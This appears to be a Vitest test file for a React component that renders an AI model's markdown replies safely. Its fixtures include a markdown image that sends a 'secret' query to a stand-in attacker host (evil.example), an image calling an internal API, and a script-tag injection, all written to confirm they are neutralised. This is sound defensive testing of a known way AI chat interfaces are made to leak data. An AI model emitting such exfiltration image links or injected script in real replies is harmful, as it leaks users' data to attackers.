import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { ModelMarkdown } from './model-markdown';

const render = (markdown: string) => renderToStaticMarkup(createElement(ModelMarkdown, null, markdown));

describe('ModelMarkdown', () => {
  it('shows an image of a model reply as its description, with nothing to fetch', () => {
    const html = render(
      '主语是 **The book**。\n\n![the answer](https://evil.example/leak.png?q=secret) and ![](/api/writer_review?text=x)',
    );
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain('evil.example');
    expect(html).not.toContain('/api/writer_review');
    expect(html).toContain('［图片：the answer］');
    expect(html).toContain('［图片］');
    expect(html).toContain('<strong>The book</strong>');
  });

  it('renders no raw HTML, images in it included', () => {
    const html = render('a <img src="https://evil.example/x.png"> b <script>alert(1)</script>');
    expect(html).not.toMatch(/<img|<script/i);
  });
});
